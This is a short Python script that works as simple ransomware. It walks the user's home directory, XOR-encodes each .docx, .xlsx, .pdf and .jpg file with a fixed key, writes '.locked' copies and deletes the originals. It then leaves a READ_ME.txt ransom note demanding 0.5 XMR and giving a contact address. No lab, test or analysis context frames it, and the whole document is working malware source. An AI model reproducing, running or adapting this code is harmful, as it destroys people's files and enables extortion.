from pathlib import Path

EXT = {".docx", ".xlsx", ".pdf", ".jpg"}
K = 0x5A

def lock(p: Path) -> None:
    data = bytes(b ^ K for b in p.read_bytes())
    p.with_suffix(p.suffix + ".locked").write_bytes(data)
    p.unlink()

for f in Path.home().rglob("*"):
    if f.is_file() and f.suffix in EXT:
        lock(f)
(Path.home() / "READ_ME.txt").write_text("Your files are locked. Pay 0.5 XMR, mail pay@example.org\n")
